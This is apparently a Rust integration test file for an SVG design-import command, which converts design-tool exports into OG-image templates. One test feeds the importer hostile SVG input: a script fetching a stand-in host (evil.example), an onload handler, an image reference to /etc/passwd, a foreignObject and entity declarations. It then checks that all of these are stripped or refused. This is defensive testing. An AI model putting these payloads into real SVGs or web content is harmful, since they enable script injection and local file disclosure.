//! `ogmill import`: plain exports (`tests/designs/exports`, the design-tool templates with
//! their `og:` markup taken out) become templates that load, fit long values inside the
//! boxes the import reports, and keep the names a user gave on re-import.

use std::path::{Path, PathBuf};
use std::process::Command;

use ogmill_core::import::{import, ImportError, ImportOptions, Imported};
use ogmill_core::raster::rasterize;
use ogmill_core::{Options, RenderRequest, Renderer};

use crate::support::{diff_bounds, renderer, titles};

const EXPORTS: &[&str] = &[
    "figma",
    "illustrator",
    "inkscape",
    "penpot",
    "affinity",
    "canva",
];

fn export(name: &str) -> String {
    let path =
        Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/designs/exports/{name}.svg"));
    std::fs::read_to_string(path).unwrap()
}

fn import_plain(source: &str) -> Result<Imported, ImportError> {
    import(source, renderer().usvg_options(), &ImportOptions::default())
}

/// A renderer over one template written to a temp dir.
fn load(name: &str, svg: &str) -> (tempfile::TempDir, Renderer) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(format!("{name}.svg")), svg).unwrap();
    let r = Renderer::new(Options {
        templates_dir: Some(dir.path().to_owned()),
        ..Options::default()
    })
    .unwrap_or_else(|e| panic!("{name}: the import does not load: {e}\n{svg}"));
    (dir, r)
}

#[test]
fn every_export_imports_into_a_template_with_a_slot_per_text() {
    for name in EXPORTS {
        let source = export(name);
        let imported = import_plain(&source).unwrap_or_else(|e| panic!("{name}: {e}"));
        let texts = source.matches("<text").count();
        let slots = imported.slots.iter().filter(|s| s.kind == "text").count();
        assert_eq!(slots, texts, "{name}: {:?}", imported.slots);
        assert!(imported.slots.iter().any(|s| s.param == "title"), "{name}");
        let (_dir, r) = load(name, &imported.svg);
        assert!(r.template(name).unwrap().is_layered(), "{name}");
    }
}

#[test]
fn long_titles_stay_inside_the_box_the_import_reports() {
    let long: Vec<String> = titles()
        .into_iter()
        .filter(|t| ["en-long", "de-compound", "ja-mixed", "ar-arabic"].contains(&t.id.as_str()))
        .map(|t| t.text)
        .collect();
    assert_eq!(long.len(), 4);
    for name in EXPORTS {
        let imported = import_plain(&export(name)).unwrap();
        let (_dir, r) = load(name, &imported.svg);
        let title = imported.slots.iter().find(|s| s.param == "title").unwrap();
        let [x, y, w, h] = title.rect;
        for text in &long {
            let resolved = r
                .resolve(&RenderRequest::new(name, &[("title", text)]))
                .unwrap();
            let t = resolved.template();
            let i = t.slots.iter().position(|s| s.name == "title").unwrap();
            let (placed, _) = r.place(&resolved).unwrap();
            let mut blank = placed.clone();
            blank[i].lines.clear();
            let draw = |p| {
                rasterize(
                    &t.fill(resolved.params(), p, &[]),
                    r.usvg_options(),
                    1200,
                    630,
                )
                .unwrap()
            };
            let (x0, y0, x1, y1) = diff_bounds(&draw(&placed), &draw(&blank)).expect("ink");
            let inside = x0 as f32 + 2.0 >= x
                && y0 as f32 + 2.0 >= y
                && x1 as f32 <= x + w + 2.0
                && y1 as f32 <= y + h + 2.0;
            assert!(
                inside,
                "{name}: ink {:?} outside {:?} for {text:?}",
                (x0, y0, x1, y1),
                title.rect
            );
        }
    }
}

#[test]
fn reimporting_keeps_the_names_the_user_gave() {
    let first = import_plain(&export("figma")).unwrap();
    let site = first
        .slots
        .iter()
        .find(|s| s.param != "title")
        .unwrap()
        .param
        .clone();
    let edited = first
        .svg
        .replace("{{title}}", "{{headline}}")
        .replace("name=\"title\"", "name=\"headline\"")
        .replace(&format!("{{{{{site}}}}}"), "{{site}}")
        .replace(&format!("name=\"{site}\""), "name=\"site\"");
    let again = import(
        &export("figma"),
        renderer().usvg_options(),
        &ImportOptions {
            previous: Some(edited),
            ..ImportOptions::default()
        },
    )
    .unwrap();
    let names: Vec<&str> = again.slots.iter().map(|s| s.param.as_str()).collect();
    assert_eq!(names, ["headline", "site"]);
}

#[test]
fn named_plain_fills_become_color_params_on_request() {
    let design = r##"<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="630">
  <rect id="Background" width="1200" height="630" style="fill: rgb(15, 23, 42)"/>
  <rect id="Accent" x="80" y="80" width="12" height="200" fill="#38bdf8"/>
  <text x="120" y="200" font-family="Inter" font-size="64" fill="#fff">Hello</text>
</svg>"##;
    let plain = import_plain(design).unwrap();
    assert!(plain.slots.iter().all(|s| s.kind == "text"));
    let colored = import(
        design,
        renderer().usvg_options(),
        &ImportOptions {
            colors: true,
            ..ImportOptions::default()
        },
    )
    .unwrap();
    let colors: Vec<(&str, &str)> = colored
        .slots
        .iter()
        .filter(|s| s.kind == "color")
        .map(|s| (s.param.as_str(), s.sample.as_str()))
        .collect();
    assert_eq!(colors, [("background", "#0f172a"), ("accent", "#38bdf8")]);
    let (_dir, r) = load("card", &colored.svg);
    let red = r
        .render_req(&RenderRequest::new("card", &[("background", "#ff0000")]))
        .unwrap();
    let img = crate::support::decode_png(&red.bytes);
    assert_eq!(
        img.get_pixel(600, 600).0,
        [255, 0, 0, 255],
        "the bound fill is drawn"
    );
}

use crate::support::RenderReq;

#[test]
fn outlined_text_says_how_to_export_text_as_text() {
    let design = r##"<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="630"><rect width="1200" height="630"/><path d="M10 10h50v50z" fill="#fff"/></svg>"##;
    let e = import_plain(design).unwrap_err().to_string();
    assert!(
        e.contains("converted to outlines") && e.contains("Outline text"),
        "{e}"
    );
}

#[test]
fn hostile_designs_are_refused_or_stripped_with_a_warning() {
    let huge = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><!--{}--></svg>",
        "x".repeat(11 * 1024 * 1024)
    );
    assert!(import_plain(&huge)
        .unwrap_err()
        .to_string()
        .contains("10 MiB"));
    let entities = r#"<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>"#;
    assert!(matches!(import_plain(entities), Err(ImportError::Entities)));
    let wide = r#"<svg xmlns="http://www.w3.org/2000/svg" width="5000" height="100"><text x="1" y="50" font-family="Inter" font-size="20">x</text></svg>"#;
    assert!(import_plain(wide).unwrap_err().to_string().contains("4096"));
    let scripted = r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="1200" height="630">
  <script>fetch('https://evil.example')</script>
  <rect width="1200" height="630" fill="#000" onload="alert(1)"/>
  <image x="0" y="0" width="10" height="10" xlink:href="file:///etc/passwd"/>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
  <text x="80" y="200" font-family="Inter" font-size="64" fill="#fff">Hello</text>
</svg>"##;
    let imported = import_plain(scripted).unwrap();
    for gone in ["<script", "onload", "/etc/passwd", "foreignObject"] {
        assert!(
            !imported.svg.contains(gone),
            "{} left in\n{}",
            gone,
            imported.svg
        );
    }
    let stripped = imported
        .warnings
        .iter()
        .filter(|w| w.starts_with("stripped"))
        .count();
    assert_eq!(stripped, 4, "{:?}", imported.warnings);
    load("card", &imported.svg);
}

fn ogmill_import(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_ogmill"))
        .arg("import")
        .args(args)
        .arg("--out")
        .arg(dir)
        .output()
        .unwrap()
}

#[test]
fn the_command_writes_the_template_prints_a_table_and_never_overwrites_unasked() {
    let dir = tempfile::tempdir().unwrap();
    let design: PathBuf =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/designs/exports/inkscape.svg");
    let design = design.to_str().unwrap();
    let out = ogmill_import(dir.path(), &[design, "--name", "release"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("| param | kind |") && stdout.contains("| title | text |"),
        "{stdout}"
    );
    assert!(dir.path().join("release.svg").is_file());
    let again = ogmill_import(dir.path(), &[design, "--name", "release"]);
    assert!(!again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains("--force"));
    let forced = ogmill_import(dir.path(), &[design, "--name", "release", "--force"]);
    assert!(
        forced.status.success(),
        "{}",
        String::from_utf8_lossy(&forced.stderr)
    );
}
